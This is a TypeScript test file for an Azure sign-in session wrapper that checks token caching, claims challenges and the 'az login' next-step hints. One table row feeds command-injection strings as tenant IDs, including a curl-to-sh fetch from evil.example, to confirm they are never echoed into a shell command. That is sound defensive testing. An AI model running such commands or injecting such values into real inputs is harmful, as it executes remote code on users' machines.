import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { GetTokenOptions } from '@azure/core-auth';
import { isAppError } from '../../../../src/base/app-error.ts';
import { cloudNamed, type Cloud } from '../../../../src/azure/sign-in/cloud.ts';
import { azureCliNextStep, sessionOf } from '../../../../src/azure/sign-in/identity-sessions.ts';
import type { TokenRequest } from '../../../../src/azure/sign-in/session.ts';

const scope = ['https://management.azure.com/.default'];

function countingSession(lifetimeInMs: number) {
  const asked: (GetTokenOptions | undefined)[] = [];
  const session = sessionOf('Azure CLI', () => 'Sign in.', async () => ({
    getToken: async (_, options) => {
      asked.push(options);
      return { token: `token-${asked.length}`, expiresOnTimestamp: Date.now() + lifetimeInMs };
    },
  }));
  return { asked, session };
}

const tenantId = '7e7a7e7a-0000-4000-8000-000000000002';

/** What a user of the Azure CLI sees when the credential says this. */
async function refusal(message: string, request: TokenRequest = {}, cloud: Cloud = cloudNamed('public')) {
  const session = sessionOf(
    'Azure CLI',
    reason => azureCliNextStep(cloud, reason),
    async () => ({ getToken: () => Promise.reject(new Error(message)) }),
  );
  const error: unknown = await session.getToken(scope, request).catch((caught: unknown) => caught);
  assert.ok(isAppError(error));
  return error;
}

describe('a session over a credential', () => {
  it('keeps a token while it lasts', async () => {
    const { asked, session } = countingSession(3_600_000);
    assert.deepEqual(
      [(await session.getToken(scope)).token, (await session.getToken(scope)).token, asked.length],
      ['token-1', 'token-1', 1],
    );
  });

  it('renews a token that is about to end', async () => {
    const { session } = countingSession(60_000);
    assert.deepEqual([(await session.getToken(scope)).token, (await session.getToken(scope)).token], ['token-1', 'token-2']);
  });

  it('keeps tokens of tenants apart', async () => {
    const { session } = countingSession(3_600_000);
    await session.getToken(scope);
    assert.equal((await session.getToken(scope, { tenantId: 'other' })).token, 'token-2');
  });

  it('answers a claims challenge with a new token, and keeps that one', async () => {
    const { asked, session } = countingSession(3_600_000);
    await session.getToken(scope);
    assert.equal((await session.getToken(scope, { claims: '{}' })).token, 'token-2');
    assert.equal((await session.getToken(scope)).token, 'token-2');
    assert.deepEqual(asked.map(options => options?.claims), [undefined, '{}']);
  });

  it('asks for claims-capable tokens', async () => {
    const { asked, session } = countingSession(3_600_000);
    await session.getToken(scope);
    assert.equal(asked[0]?.enableCae, true);
  });

  // as @azure/identity 4.14 puts them
  const login = "Please run 'az login' from a command prompt to authenticate before using this credential.";
  const notInstalled =
    "Azure CLI could not be found. Please visit https://aka.ms/azure-cli for installation instructions and then, once installed, authenticate to your Azure account using 'az login'.";
  const claims = '{"access_token":{"acrs":{"essential":true,"value":"p1ü"}}}';
  const encoded = 'eyJhY2Nlc3NfdG9rZW4iOnsiYWNycyI6eyJlc3NlbnRpYWwiOnRydWUsInZhbHVlIjoicDHDvCJ9fX0=';
  const claimed = `This credential doesn't support claims challenges. To authenticate with the required claims, please run the following command: az login --claims-challenge ${encoded} --scope https://management.azure.com/.default`;
  const expired =
    'ERROR: AADSTS70043: The refresh token has expired or is invalid due to sign-in frequency checks by conditional access. canary-token\nInteractive authentication is needed. Please run:\naz login --scope https://management.core.windows.net//.default';
  const rows: readonly (readonly [message: string, request: TokenRequest, reason: string, nextStep: string])[] = [
    [login, {}, 'No account is signed in there.', 'Run "az login" in a terminal, then try again.'],
    [
      login,
      { tenantId },
      `No account is signed in there for the tenant ${tenantId}.`,
      `Run "az login --tenant ${tenantId}" in a terminal, then try again.`,
    ],
    [
      login,
      { tenantId: 'contoso.onmicrosoft.com' },
      'No account is signed in there for the tenant contoso.onmicrosoft.com.',
      'Run "az login --tenant contoso.onmicrosoft.com" in a terminal, then try again.',
    ],
    // a challenge may say anything, and what a user copies goes into a shell
    ...["x;curl$IFS'evil.example/a'|sh", '$(touch$IFS/tmp/owned)', 'contoso.onmicrosoft.com&&calc', '--allow-no-subscriptions', 'a.example\nb', 'a..b'].map(
      tenant => [login, { tenantId: tenant }, 'No account is signed in there.', 'Run "az login" in a terminal, then try again.'] as const,
    ),
    [
      notInstalled,
      {},
      'It was not found on this machine.',
      'Install the Azure CLI (https://aka.ms/azure-cli), run "az login" in a terminal, then try again.',
    ],
    [
      claimed,
      { claims },
      'Entra ID asks for a further sign-in.',
      `Run "az login --claims-challenge ${encoded} --scope https://management.azure.com/.default" in a terminal, then try again.`,
    ],
    [
      `${claimed} --tenant ${tenantId}`,
      { claims, tenantId },
      'Entra ID asks for a further sign-in.',
      `Run "az login --tenant ${tenantId} --claims-challenge ${encoded} --scope https://management.azure.com/.default" in a terminal, then try again.`,
    ],
    [expired, {}, 'Entra ID answered AADSTS70043.', 'Run "az login" in a terminal, then try again.'],
    [
      'AADSTS50076: Due to a configuration change … canary-token',
      {},
      'Entra ID answered AADSTS50076.',
      'Run "az login" in a terminal, then try again.',
    ],
    ['unexpected output: canary-token', {}, '', 'Run "az login" in a terminal, then try again.'],
  ];
  for (const [message, request, reason, nextStep] of rows) {
    it(`says "${reason}" of ${request.tenantId ?? 'no tenant'} and "${nextStep}"`, async () => {
      const error = await refusal(message, request);
      assert.deepEqual(
        [error.code, error.message, error.nextStep],
        ['signed-out', ['Azure CLI gave no token.', reason].filter(Boolean).join(' '), nextStep],
      );
    });
  }

  it('names the cloud to choose first where it is another than the public one', async () => {
    assert.equal(
      (await refusal(login, {}, cloudNamed('china'))).nextStep,
      'Choose the cloud with "az cloud set", run "az login" in a terminal, then try again.',
    );
  });

  it('gives no single reason when a chain of credentials failed', async () => {
    const error = Object.assign(new Error('EnvironmentCredential is unavailable. Azure CLI could not be found.'), {
      name: 'AggregateAuthenticationError',
    });
    const session = sessionOf('Default Azure credential', () => '', async () => ({ getToken: () => Promise.reject(error) }));
    await assert.rejects(session.getToken(scope), { code: 'signed-out', message: 'Default Azure credential gave no token.' });
  });

  it('lets a cancellation pass', async () => {
    const session = sessionOf(
      'Azure CLI',
      () => '',
      async () => ({ getToken: () => Promise.reject(new DOMException('stop', 'AbortError')) }),
    );
    await assert.rejects(session.getToken(scope), { name: 'AbortError' });
  });
});
